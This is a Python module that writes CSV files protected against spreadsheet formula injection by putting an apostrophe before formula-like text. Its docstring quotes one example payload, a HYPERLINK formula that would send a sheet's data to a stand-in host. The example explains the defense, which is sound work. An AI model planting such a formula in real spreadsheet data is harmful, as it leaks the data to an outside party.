"""Writing CSV that is safe to open in a spreadsheet: the one writer of every
CSV joinedup produces (exports, rejects files, the CLI's outputs).

A spreadsheet runs a cell whose text starts with ``=``, ``+``, ``-`` or ``@``
as a formula (and some treat a leading tab or carriage return the same way),
so a partner named ``=HYPERLINK("http://evil.example/?leak="&A2,"x")`` would
become a live link that sends the sheet's data away. Such text is written
with a leading apostrophe, which spreadsheets show as plain text. Numbers are
never touched: an ``int`` or ``float``, or text that is just a number (``-5``,
``1e3``), is a number to a spreadsheet, not a formula.
"""

from __future__ import annotations

import csv
import datetime as dt
import re
from collections.abc import Iterable, Sequence
from typing import Protocol

# What a spreadsheet may run as a formula when a cell's text starts with it.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# Text a spreadsheet reads as a plain number: sign, digits, point, exponent.
_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")

Cell = str | int | float | dt.date | None


class Writable(Protocol):
    def write(self, text: str, /) -> object: ...


def safe_cell(value: Cell) -> Cell:
    """``value`` as it may go into a CSV: formula-like text behind an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def write_rows(file: Writable, rows: Iterable[Sequence[Cell]]) -> int:
    """Write ``rows`` (the header first) to ``file`` as CSV, each cell made safe
    by :func:`safe_cell`; ``None`` is an empty cell and a date is written
    as ``2024-04-01``. Returns the rows written."""
    writer = csv.writer(file)
    count = 0
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
        count += 1
    return count
